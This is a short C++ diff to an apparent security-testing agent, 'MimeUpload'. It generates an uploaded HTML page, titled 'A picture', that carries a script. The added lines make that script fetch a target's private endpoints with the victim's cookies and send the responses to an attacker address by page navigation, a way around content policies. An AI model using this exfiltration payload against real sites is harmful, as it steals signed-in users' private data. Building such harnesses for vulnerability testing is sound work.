@@ -19,9 +19,14 @@ class MimeUpload final : public Agent {
                              send_script(Channel::Image, address, kAllInReach);
         for (Endpoint const* each : private_endpoints(target))
             script += fetch_and_send(app_origin(target) + each->path, address);
+        auto const movies = upload(target, script);
+        // A policy may leave no other way out than to another page.
+        for (Endpoint const* each : private_endpoints(target))
+            script += "fetch(" + script_string(app_origin(target) + each->path) +
+                      ",{credentials:\"include\"}).then(r=>r.text()).then(t=>{" +
+                      send_script(Channel::Navigation, address, "t") + "});";
         auto const pages = upload(
             target, "<!doctype html><title>A picture</title><script>" + script + "</script>");
-        auto const movies = upload(target, script);
         if (pages.empty() || !victim_signs_in(target)) return;
         for (std::string const& path : pages) {
             if (!received_texts(target).empty()) break;
